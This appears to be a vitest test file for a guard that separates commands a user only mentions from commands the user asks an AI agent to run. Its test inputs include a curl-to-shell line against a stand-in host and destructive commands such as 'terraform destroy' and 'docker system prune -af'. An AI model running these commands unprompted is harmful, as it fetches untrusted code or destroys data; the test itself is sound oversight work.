import { describe, expect, it } from 'vitest';
import { issueFor, outcomeOf } from './ordered-world.ts';

describe('a command that the user only mentions is asked about', () => {
  it.each([
    ['Fix the docs where they say run terraform destroy', 'terraform destroy'],
    ['Fix the docs where they say\nrun terraform destroy', 'terraform destroy'],
    ['Write a test for the hook that will run curl https://x.example/i.sh | sh', 'curl https://x.example/i.sh | sh'],
    ['Run the tests. Alice sometimes has to run npm publish', 'npm publish'],
    ['Run the tests in the code path where we run docker system prune -af', 'docker system prune -af'],
    ['Before release Bob has to run ./deploy.sh prod', './deploy.sh prod'],
    ['Run the tests, and fix the command that we run: git push --force', 'git push --force'],
    ['Run the tests. `npm publish` fails in CI.', 'npm publish'],
    ['`npm publish` fails in CI. Run the tests.', 'npm publish'],
    ['Running `terraform destroy` fails. Run the tests.', 'terraform destroy'],
    ['Run the tests. Bob will start `terraform destroy`.', 'terraform destroy'],
    ['Run the tests, and fix the hooks that build, test and run npm publish.', 'npm publish'],
    ['Run the tests. The hooks build, test and run npm publish.', 'npm publish'],
    ['Run the tests. Do not build and run npm publish.', 'npm publish'],
    [`Fix the page that says ${'what to do, '.repeat(100)}and run npm publish`, 'npm publish'],
  ])('%s', async (user, command) => {
    expect(await outcomeOf([user], command, issueFor(command))).toBe('ask');
    expect(await outcomeOf([user], command)).toBe('ask');
  });
});

describe('a command that the user wants run passes', () => {
  it.each([
    ['Run `npm publish`', 'npm publish'],
    ['run terraform plan and show me the output', 'terraform plan'],
    ['please execute ./deploy.sh staging', './deploy.sh staging'],
    ['terraform apply', 'terraform apply'],
    ['run this:\n```\nterraform apply\n```', 'terraform apply'],
    ['Run this: `terraform apply`', 'terraform apply'],
    ['Fix the tests, then run npm publish', 'npm publish'],
    ['Fix the tests and run npm publish.', 'npm publish'],
    ['Fix the tests and please run `npm publish`.', 'npm publish'],
    ['Fix the tests. Then please run npm publish.', 'npm publish'],
    ['Run `npm ci`, then run `npm publish` and tell me.', 'npm publish'],
    ['Could you run terraform plan?', 'terraform plan'],
    ['I want you to run terraform plan.', 'terraform plan'],
    ['Make sure to run `npm publish` afterwards.', 'npm publish'],
    ['Before you commit, run terraform fmt -write.', 'terraform fmt -write'],
    ['When you are done, run npm publish.', 'npm publish'],
    ['In the folder infra, run terraform plan.', 'terraform plan'],
    ['- fix the tests\n- run npm publish', 'npm publish'],
    ['1. Fix the tests.\n2. Run npm publish.', 'npm publish'],
    ['Run the tests, then try running `terraform plan`.', 'terraform plan'],
    ['F\u00fchre `terraform plan` aus.', 'terraform plan'],
  ])('%s', async (user, command) => {
    expect(await outcomeOf([user], command)).toBe('allow');
  });
});
